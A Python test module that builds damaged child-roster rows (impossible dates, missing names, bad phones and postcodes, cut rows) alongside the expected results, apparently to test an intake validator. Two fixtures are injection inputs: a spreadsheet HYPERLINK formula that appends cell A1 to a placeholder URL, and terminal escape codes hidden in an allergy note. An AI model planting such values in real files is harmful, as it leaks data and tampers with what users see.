"""What happens to cells on their way to the desk; each damage with its label and its truth."""

from collections.abc import Callable
from dataclasses import dataclass
from random import Random
from typing import Any

from tests.rosters.layout import Layout


@dataclass
class Damage:
    """One damaged cell: which record of the family, what the truth then is."""

    kind: str
    field: str
    required: bool
    row: int
    """Which of the family's rows, from 0."""


Rows = list[dict[str, str]]
Truth = dict[str, Any]
Spoil = Callable[[Random, Layout, Rows, Truth], "list[Damage]"]


def _child(rng: Random, layout: Layout, rows: Rows, truth: Truth) -> tuple[int, str, Truth]:
    """Choose a child: the row it stands in, its column prefix, its truth."""
    at = rng.randrange(len(truth["children"]))
    row, prefix = (at, "c1") if layout.per_child else (0, f"c{at + 1}")
    return row, prefix, truth["children"][at]


def _birthday(kind: str, ways: list[str]) -> Spoil:
    def spoil(rng: Random, layout: Layout, rows: Rows, truth: Truth) -> list[Damage]:
        row, prefix, child = _child(rng, layout, rows, truth)
        rows[row][f"{prefix}_birth"] = rng.choice(ways)
        child["birthday"] = None
        return [Damage(kind, "birthday", True, row)]

    return spoil


def _missing(kind: str, part: str) -> Spoil:
    def spoil(rng: Random, layout: Layout, rows: Rows, truth: Truth) -> list[Damage]:
        row, prefix, child = _child(rng, layout, rows, truth)
        rows[row][f"{prefix}_{part}"] = ""
        child[part] = None
        return [Damage(kind, part, True, row)]

    return spoil


def _formula_name(rng: Random, layout: Layout, rows: Rows, truth: Truth) -> list[Damage]:
    key = "g_surname" if layout.split else "g_name"
    name = rows[0][key]
    for row in rows:
        row[key] = f'=HYPERLINK("http://example.com/?x="&A1,"{name}")'
        if layout.split:
            row["g_given"] = ""
    truth["guardian"]["name"] = None
    return [Damage("formula_name", "name", True, at) for at in range(len(rows))]


def _note(kind: str, text: str, truly: str | None, *, required: bool) -> Spoil:
    def spoil(rng: Random, layout: Layout, rows: Rows, truth: Truth) -> list[Damage]:
        for row in rows:
            row["allergy"] = text
        truth["allergy"] = truly
        return [Damage(kind, "notes", required, at) for at in range(len(rows))]

    return spoil


def _contact(kind: str, key: str, ways: list[str]) -> Spoil:
    def spoil(rng: Random, layout: Layout, rows: Rows, truth: Truth) -> list[Damage]:
        way = rng.choice(ways)
        for row in rows:
            row[key] = way
        holder = truth["guardian"] if key == "phone" else truth
        holder[key] = None
        return [Damage(kind, key, True, at) for at in range(len(rows))]

    return spoil


def _broken_row(rng: Random, layout: Layout, rows: Rows, truth: Truth) -> list[Damage]:
    """Cut a row short: what stood behind the cut is not in the file."""
    cuts = layout.safe_cuts()
    if len(rows) != 1 or not cuts:
        return []
    gone = layout.keys[rng.choice(cuts) :]
    for key in gone:
        del rows[0][key]
    truth["children"] = [
        child for n, child in enumerate(truth["children"], 1) if f"c{n}_name" not in gone
    ]
    for key in gone:
        if key == "phone" or key == "relation":
            truth["guardian"][key] = None
        elif key in truth:
            truth[key] = None
    if "address" in gone:
        truth["where"] = None
    return [Damage("broken_row", "row", True, 0)]


def _nameless(rng: Random, layout: Layout, rows: Rows, truth: Truth) -> list[Damage]:
    for row in rows:
        for key in row:
            if key[0] in "gc" and ("name" in key or "kana" in key or "given" in key):
                row[key] = ""
    truth["nameless"] = True
    return [Damage("nameless", "name", True, at) for at in range(len(rows))]


DAMAGES: dict[str, Spoil] = {
    "feb30": _birthday("feb30", ["2021/2/30", "2024/4/31", "令和5年13月1日"]),
    "future": _birthday("future", ["2031/5/3", "令和20年1月1日"]),
    "heisei33": _birthday("heisei33", ["平成33年4月5日", "H33.4.5"]),
    "name_missing": _missing("name_missing", "name"),
    "kana_missing": _missing("kana_missing", "kana"),
    "formula_name": _formula_name,
    "formula_note": _note("formula_note", '=HYPERLINK("http://example.com/","なし")', None, required=False),
    "control_note": _note("control_note", "卵\x1b]0;受付\x07\x1b[2J\x08\x00", "卵", required=False),
    "huge_cell": _note("huge_cell", "卵と乳と小麦は控えています。" * 400, None, required=True),
    "broken_row": _broken_row,
    "broken_phone": _contact("broken_phone", "phone", ["090-1234", "０９０－１２３４－", "080-12X4-5678", "9012"]),
    "impossible_postal": _contact("impossible_postal", "postal", ["336-09", "〒999-999", "33609671", "美園"]),
    "nameless": _nameless,
}
TEXT_ONLY = {"broken_row"}
"""What cannot happen in a workbook, whose rows have no ends."""
